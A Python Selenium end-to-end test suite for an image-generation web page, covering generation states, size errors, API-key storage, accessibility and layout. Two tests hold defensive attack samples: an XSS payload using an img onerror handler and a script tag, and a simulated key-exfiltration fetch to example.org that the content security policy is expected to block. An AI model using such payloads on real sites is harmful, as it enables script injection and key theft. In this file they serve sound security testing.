"""The page in a real browser, against the local stack: what a person does, sees, and is protected from.

Pictures of it are left in .reports/screenshots, for a person to look at.
"""

import math
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import uuid4

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from fluxgate.aws.dynamodb import Table
from fluxgate.clock import Clock
from fluxgate.tasks.model import Status, Task, TaskError
from fluxgate.tasks.store import TaskStore
from local.providers.acedata import Behaviour, Refusal
from local.stack import Stack
from tests.e2e.browser import CHROMIUM, DRIVER, Page, start
from tests.e2e.client import Client, fetch

DESKTOP, PHONE = (1360, 960), (390, 844)

pytestmark = pytest.mark.skipif(
    not (CHROMIUM and DRIVER), reason="needs a browser: chromium and chromedriver (on Debian: chromium-driver) on PATH"
)


@pytest.fixture(scope="session")
def driver(tmp_path_factory: pytest.TempPathFactory) -> Iterator[webdriver.Chrome]:
    driver = start(tmp_path_factory.mktemp("browser"))
    yield driver
    driver.quit()


@pytest.fixture
def page(stack: Stack, driver: webdriver.Chrome) -> Iterator[Page]:
    """The browser complains of nothing: no script fails, nothing that the policy forbids is tried."""
    page = Page(driver, stack.url)
    page.resize(*DESKTOP)
    page.scheme("light")
    yield page
    driver.get("about:blank")
    complaints = [entry for entry in driver.get_log("browser") if entry["source"] not in {"network"}]  # type: ignore[no-untyped-call]
    assert complaints == []


@pytest.fixture(scope="session")
def owner(stack: Stack) -> Iterator[Client]:
    """Whose pictures the page shows, but for the crowded gallery's."""
    with Client(stack.url, "page-key") as client:
        yield client


def behave(stack: Stack, prompt: str, *behaviours: Behaviour) -> None:
    """One after another, for submissions with the prompt."""
    assert stack.simulator
    for behaviour in behaviours:
        stack.simulator.behave(behaviour, when=lambda body: body["prompt"] == prompt)


def submissions(stack: Stack, prompt: str) -> list[dict[str, Any]]:
    assert stack.simulator
    return [it.body for it in stack.simulator.submissions if it.body["prompt"] == prompt]


def test_a_person_makes_pictures_and_sees_each_state(stack: Stack, page: Page) -> None:
    prompt = "A red fox in deep snow"
    behave(stack, prompt, Behaviour(refusal=Refusal.of("too_many_requests")), Behaviour(latency=math.inf))
    page.open("page-key")
    assert "1376x768" in page.choices("size")
    page.choose("model", "flux-pro-1.1-ultra")
    assert "21:9" in page.choices("size")
    assert "1024x1024" not in page.choices("size")
    page.choose("size", "16:9")
    page.all("#counts label")[1].click()
    page.run("""
        window.told = [];
        const status = document.getElementById("status");
        new MutationObserver(() => told.push(status.textContent)).observe(status, {childList: true});
    """)
    page.generate(prompt)

    card = page.card(prompt)
    page.wait(lambda: page.text(card, ".state strong") == "Processing")
    assert page.text(card, ".model") == "flux-pro-1.1-ultra"
    assert page.text(card, ".size") == "16:9"
    page.wait(lambda: len(submissions(stack, prompt)) == 2)
    assert stack.simulator
    stack.simulator.release()
    first, second = page.pictures(card, 2)
    assert (first.get_attribute("alt"), second.get_attribute("alt")) == (f"Image 1: {prompt}", f"Image 2: {prompt}")
    assert page.run("return told") == [f"{prompt}: {news}" for news in ("queued", "processing", "2 images are ready")]

    links = card.find_elements(By.CSS_SELECTOR, ".links a")
    assert [link.accessible_name for link in links] == ["Download 1", "Download 2"]
    for link in links:
        assert fetch(link.get_attribute("href") or "").headers["Content-Type"] == "image/png"
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    assert card.find_element(By.TAG_NAME, "time").get_attribute("datetime")
    wanted = {"prompt": prompt, "model": "flux-pro-1.1-ultra", "size": "16:9", "count": 2}
    assert wanted.items() <= submissions(stack, prompt)[-1].items()


def test_a_wrong_size_is_explained_beside_its_field_and_can_be_corrected(stack: Stack, page: Page) -> None:
    prompt = "A house of cards"
    page.open("page-key")
    page.choose("size", "")
    assert page.focused == "pixels"
    page.generate(prompt)
    page.wait(lambda: "multiples of 32" in page["size-error"].text)
    page["pixels"].send_keys("1000x1000", Keys.ENTER)
    page.wait(lambda: "The nearest is 992x992" in page["size-error"].text)
    assert page.focused == "pixels"
    assert page["pixels"].get_attribute("aria-invalid") == "true"
    assert "size-error" in (page["pixels"].get_attribute("aria-describedby") or "").split()

    page["pixels"].clear()
    page["pixels"].send_keys("992x992", Keys.ENTER)
    page.pictures(page.card(prompt), 1)
    assert page["size-error"].text == ""
    assert page["pixels"].get_attribute("aria-invalid") is None
    assert [body["size"] for body in submissions(stack, prompt)] == ["992x992"]


def test_a_prompt_that_is_missing_is_asked_for(page: Page) -> None:
    page.open("page-key")
    page["generate"].click()
    page.wait(lambda: page["prompt-error"].text == "This field must not be empty.")
    assert page.focused == "prompt"


@pytest.mark.parametrize(("key", "reason"), [("wrong", "valid API key"), ("\u00f6", "no spaces"), ("", "no spaces")])
def test_a_wrong_key_is_refused_and_not_kept(page: Page, key: str, reason: str) -> None:
    page.open()
    page.enter(key)
    page.wait(lambda: reason in page["key-error"].text)
    assert page.focused == "key"
    assert not page["composer"].is_displayed()
    assert page.run("return localStorage.length + sessionStorage.length") == 0


def test_a_key_is_kept_as_long_as_was_said(page: Page) -> None:
    page.open("page-key")
    assert page.run("return [Object.values(localStorage), sessionStorage.length]") == [["page-key"], 0]
    page.driver.get(f"{page.url}/")
    page.wait(page["composer"].is_displayed)
    page["change-key"].click()
    page["forget"].click()
    page.wait(lambda: page["key"].is_displayed() and not page["composer"].is_displayed())

    page["remember"].click()
    page.enter("page-key")
    page.wait(page["composer"].is_displayed)
    assert page.run("return [localStorage.length, Object.values(sessionStorage)]") == [0, ["page-key"]]


def test_a_key_that_has_become_invalid_is_asked_for_again(page: Page) -> None:
    page.open("page-key")
    page.run("localStorage.setItem('fluxgate.key', 'withdrawn')")
    page.driver.get(f"{page.url}/")
    page.wait(lambda: "valid API key" in page["key-error"].text)


HTML = """<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><b>bold</b>"""


def test_html_is_shown_as_text(stack: Stack, page: Page) -> None:
    behave(stack, HTML, Behaviour(refusal=Refusal(403, "forbidden", f"Not with {HTML}")))
    page.open("page-key")
    page.generate(HTML)
    card = page.card(HTML)
    page.wait(lambda: page.text(card, ".state strong") == "Failed")
    assert f"Not with {HTML}" in page.text(card, ".state")
    assert card.find_elements(By.CSS_SELECTOR, "img, script, b") == []
    page.driver.get(f"{page.url}/")
    page.card(HTML)
    assert page.run("return window.hacked") is None


def test_the_policy_holds_even_if_the_page_had_a_hole(page: Page) -> None:
    page.open()
    for hole in ("document.body.innerHTML = '<b></b>'", "document.createElement('script').textContent = 'hacked = 1'"):
        assert "Trusted" in page.run(f"try {{ {hole} }} catch (error) {{ return error.message }}")
    blocked = """
        const done = arguments[0];
        document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), {once: true});
        fetch("https://example.org/?key=stolen").catch(() => {});
    """
    assert page.driver.execute_async_script(blocked) == "connect-src"
    page.driver.get_log("browser")  # type: ignore[no-untyped-call] # these complaints were wanted


@pytest.mark.parametrize(
    ("when", "failing"),
    [("refused", Behaviour(refusal=Refusal.of("forbidden"))), ("given up", Behaviour(failure=Refusal.of("forbidden")))],
)
def test_a_failed_task_shows_the_reason(stack: Stack, page: Page, when: str, failing: Behaviour) -> None:
    """Both when the provider refuses at once and when it gives up."""
    prompt = f"Something that is {when}"
    behave(stack, prompt, failing)
    page.open("page-key")
    page.generate(prompt)
    card = page.card(prompt)
    page.wait(lambda: "blocked by moderation" in page.text(card, ".state"))
    assert page.text(card, ".state strong") == "Failed"
    assert "blocked by moderation" in str(page["status"].get_property("textContent"))
    assert card.find_elements(By.CSS_SELECTOR, ".links a") == []


def test_a_request_whose_answer_was_lost_does_not_buy_twice(stack: Stack, page: Page) -> None:
    prompt = "Only one, please"
    page.open("page-key")
    page.run("""
        const send = window.fetch;
        window.fetch = async (...request) => {
          window.fetch = send;
          await send(...request);
          throw new TypeError("broken");
        };
    """)
    page.generate(prompt)
    page.wait(lambda: "did not respond" in page["form-error"].text)
    page["generate"].click()
    page.pictures(page.card(prompt), 1)
    assert page["form-error"].text == ""
    assert len(submissions(stack, prompt)) == 1
    page["generate"].click()  # now it is another one
    page.wait(lambda: len(submissions(stack, prompt)) == 2)


def test_a_link_that_has_grown_old_gets_a_new_address(page: Page, owner: Client) -> None:
    prompt = "A picture for later"
    owner.settled(owner.generate(prompt=prompt).json()["task_id"])
    page.open("page-key")
    link = page.card(prompt).find_element(By.CSS_SELECTOR, ".links a")
    old = link.get_attribute("href")
    time.sleep(1.1)  # addresses differ by the second in which they were signed
    page.run("""
        const now = Date.now;
        Date.now = () => now() + 3600_000;
        window.open = (url) => { window.opened = url; };
    """)
    link.click()
    new = page.wait(lambda: page.run("return window.opened"))
    assert new != old
    assert fetch(new).headers["Content-Type"] == "image/png"


@pytest.fixture(scope="session")
def crowd(stack: Stack) -> list[str]:
    """The prompts of 45 tasks of another owner, newest first."""
    tasks = TaskStore(Table(stack.client("dynamodb"), stack.deployment.resources["TasksTable"]), Clock())
    now = datetime.now(UTC)
    for n in range(45):
        then = now - timedelta(minutes=n)
        tasks.create(
            Task(
                task_id=str(uuid4()), owner="crowd", status=Status.FAILED, action="generate", model="flux-dev",
                prompt=f"Number {n}", size="1024x1024", count=1, provider="acedata", created_at=then, updated_at=then,
                expires_at=then + timedelta(days=1), error=TaskError(code="forbidden", message="No."),
            )
        )  # fmt: skip
    return [f"Number {n}" for n in range(45)]


def test_the_gallery_goes_on_as_it_is_scrolled(page: Page, crowd: list[str]) -> None:
    def shown() -> list[str]:
        return [str(prompt.get_property("textContent")) for prompt in page.all("#gallery .prompt")]

    page.open("crowd-key")
    page.wait(lambda: len(shown()) >= 20)
    time.sleep(1)
    assert shown() == crowd[:20]
    while len(shown()) < 45:
        before = len(shown())
        page.run("window.scrollTo(0, document.body.scrollHeight)")
        page.wait(lambda before=before: len(shown()) > before)  # type: ignore[misc]
    assert shown() == crowd
    assert not page["more"].is_displayed()


def test_another_key_shows_another_gallery(page: Page, crowd: list[str]) -> None:
    page.open("crowd-key")
    page.card(crowd[0])
    page["change-key"].click()
    page.enter("nobody-key")
    page.wait(page["empty"].is_displayed)
    assert page.all("#gallery > li") == []


def test_an_earlier_request_can_be_used_again(page: Page, owner: Client) -> None:
    prompt = "Three apples on a blue table"
    owner.settled(owner.generate(prompt=prompt, model="flux-pro", size="640x320", count=3).json()["task_id"])
    page.open("page-key")
    page.card(prompt).find_element(By.CLASS_NAME, "again").click()
    assert page.focused == "prompt"
    assert page["prompt"].get_property("value") == prompt
    assert page["model"].get_property("value") == "flux-pro"
    assert (page["size"].get_property("value"), page["pixels"].get_property("value")) == ("", "640x320")
    assert page.all("#counts :checked")[0].get_property("value") == "3"


def test_the_keyboard_is_enough(stack: Stack, page: Page) -> None:
    prompt = "Paper boats on a quiet canal"
    page.open()
    assert page.focused == "key"
    page.press("page-key", Keys.TAB, Keys.TAB)
    assert page.driver.switch_to.active_element.accessible_name == "Continue"
    page.press(Keys.ENTER)
    page.wait(lambda: page.focused == "prompt")
    page.press(prompt, Keys.TAB)
    assert page.focused == "model"
    page.press("flux-kontext-m", Keys.TAB)
    assert page.focused == "size"
    page.press("3:4", Keys.TAB, Keys.ARROW_RIGHT, Keys.TAB)
    assert page.focused == "generate"
    page.press(Keys.SPACE)
    card = page.card(prompt)
    page.pictures(card, 2)
    wanted = {"model": "flux-kontext-max", "size": "3:4", "count": 2}
    assert wanted.items() <= submissions(stack, prompt)[0].items()
    page.press(Keys.TAB)  # the gallery's first task is the new one
    assert page.driver.switch_to.active_element == card.find_element(By.CSS_SELECTOR, ".links a")


def test_everything_has_a_name(page: Page, owner: Client) -> None:
    owner.settled(owner.generate(prompt="A harbour in fog", count=2).json()["task_id"])
    page.open("page-key")
    page.pictures(page.card("A harbour in fog"), 2)
    page.choose("size", "")
    page["change-key"].click()
    controls = [it for it in page.all("a, button, input, select, textarea, fieldset") if it.is_displayed()]
    assert len(controls) > 15
    assert [it.get_attribute("outerHTML") for it in controls if not it.accessible_name] == []
    assert all(it.get_attribute("alt") for it in page.all("#gallery img"))
    assert page.run("return document.documentElement.lang") == "en"
    assert len(page.all("h1")) == len(page.all("main")) == 1
    identifiers = page.run("return [...document.querySelectorAll('[id]')].map((element) => element.id)")
    assert len(set(identifiers)) == len(identifiers)


# Text against the first ground behind it that is not transparent, by WCAG's formula.
CONTRASTS = """
    const channels = (colour) => colour.match(/[\\d.]+/g).map(Number);
    const light = (colour) => {
      const linear = (part) => (part <= 0.03928 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4);
      const [red, green, blue] = channels(colour).map((channel) => linear(channel / 255));
      return 0.2126 * red + 0.7152 * green + 0.0722 * blue;
    };
    const ground = (element) => {
      const colour = getComputedStyle(element).backgroundColor;
      return (channels(colour)[3] ?? 1) > 0 ? colour : ground(element.parentElement);
    };
    const hasText = (element) => [...element.childNodes].some((node) => node.nodeType === 3 && node.data.trim());
    return [...document.body.querySelectorAll("*")]
      .filter((element) => element.checkVisibility() && hasText(element) && element.tagName !== "OPTION")
      .map((element) => {
        const [a, b] = [light(getComputedStyle(element).color), light(ground(element))];
        return [element.textContent.slice(0, 30), (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)];
      });
"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out(page: Page, crowd: list[str], scheme: str) -> None:
    page.scheme(scheme)
    page.open("crowd-key")
    page.card(crowd[0])
    page["generate"].click()
    page.wait(lambda: page["prompt-error"].text)
    page["change-key"].click()
    contrasts = page.run(CONTRASTS)
    assert len(contrasts) > 40
    assert [(text, ratio) for text, ratio in contrasts if ratio < 4.5] == []


def test_without_the_slash_after_the_stage_the_page_works_too(page: Page) -> None:
    page.open()
    page.driver.get(f"{page.url}/prod")
    assert page.driver.current_url == f"{page.url}/prod/"
    page.enter("page-key")
    page.wait(page["composer"].is_displayed)


SCENES: list[dict[str, Any]] = [
    {"prompt": "An old greenhouse overgrown with vines, dust in the light", "size": "768x1376"},
    {"prompt": "Rowing boats on a still lake at dawn", "size": "1376x768"},
    {"prompt": "A red fox under the northern lights", "count": 4},
    {"prompt": "Cutaway of a lighthouse, technical drawing, fine lines on warm paper", "size": "1248x832"},
    {"prompt": "A ripe pomegranate on blue linen", "count": 2, "model": "flux-pro-1.1-ultra", "size": "3:4"},
    {"prompt": "Fog over a harbour, two cranes", "size": "1184x896"},
]


def test_the_page_fits_desktop_and_phone_in_light_and_dark(stack: Stack, page: Page) -> None:
    forbidden, endless = "Somebody famous, doing something bad", "A lighthouse on a cliff at golden hour"
    behave(stack, forbidden, Behaviour(refusal=Refusal.of("forbidden")))
    behave(stack, endless, Behaviour(latency=math.inf))
    with Client(stack.url, "exhibition-key") as client:
        for scene in (*SCENES[:2], {"prompt": forbidden}, *SCENES[2:]):
            client.settled(client.generate(**scene).json()["task_id"])
    page.open()
    page.screenshot("key")
    page.enter("exhibition-key")
    page.wait(page["composer"].is_displayed)
    page.generate(endless)
    page.card(endless)
    page.pictures(page.card(SCENES[0]["prompt"]), 1)
    for scheme in ("light", "dark"):
        page.scheme(scheme)
        for device, size in {"desktop": DESKTOP, "phone": PHONE}.items():
            page.resize(*size)
            page.run("window.scrollTo(0, 0)")
            page.screenshot(f"{device}-{scheme}")
            page.run("document.getElementById('gallery-title').scrollIntoView()")
            page.screenshot(f"{device}-{scheme}-gallery")
            assert page.run("return document.documentElement.scrollWidth <= window.innerWidth")
    assert stack.simulator
    stack.simulator.release()
